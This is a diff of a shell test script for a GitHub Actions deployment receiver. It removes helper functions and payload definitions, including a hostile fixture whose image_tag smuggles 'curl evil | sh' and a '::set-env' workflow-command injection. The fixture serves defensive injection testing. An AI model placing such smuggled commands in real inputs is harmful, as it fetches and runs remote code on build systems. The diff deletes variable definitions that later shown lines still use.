@@ -387,18 +387,6 @@ receive() {
 }
 # parsed FILE: a GITHUB_OUTPUT or GITHUB_ENV file as JSON, in $run/FILE.json.
 parsed() { python3 "$here/check.py" outputs "$1" >"$1.json"; }
-# holds_exactly FILE JSON: the parsed file holds exactly these names and
-# values; `"payload": true` in JSON stands for any payload value.
-holds_exactly() {
-    python3 - "$1.json" "$2" <<'PY'
-import json, sys
-got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
-if want.get("payload") is True and "payload" in got:
-    want["payload"] = got["payload"]
-if got != want:
-    sys.exit(f"  holds {got!r}, expected {want!r}")
-PY
-}
 # payload_is JSON: the payload output is that object, as compact JSON.
 payload_is() {
     python3 - "$outputs_file.json" "$1" "$here/check.py" <<'PY'
@@ -413,7 +401,6 @@ if compact != payload:
     sys.exit(f"  payload {payload!r} is not compact JSON")
 PY
 }
-nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
 no_request_from_receive() { no_new_requests "$receive_before"; }
 error_names() { grep -q "^::error.*$1" "$run/stdout"; }
 # No line the step printed is a workflow command other than its ::error lines:
@@ -428,7 +415,6 @@ refused() { # refused CASE EXIT: the checks every refusal must pass
 }
 
 step "case: receive a valid deployment request (repository_dispatch)"
-deploy_payload='{"image_tag": "sha-0123abc", "environment": "staging"}'
 dispatch_as receive-send trigger-deploy "$deploy_payload" "$tmp/deploy-event.json"
 receive receive-valid "$tmp/deploy-event.json"
 check "receive: exit code 0" test "$rc" -eq 0
@@ -472,7 +458,6 @@ later_step_env() {
 check "receive: a later step sees DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT" later_step_env
 
 step "case: receive a hostile payload (shell and workflow-command injection)"
-hostile_payload='{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}'
 dispatch_as receive-send-hostile trigger-deploy "$hostile_payload" "$tmp/hostile-event.json"
 receive receive-hostile "$tmp/hostile-event.json"
 refused receive-hostile 1
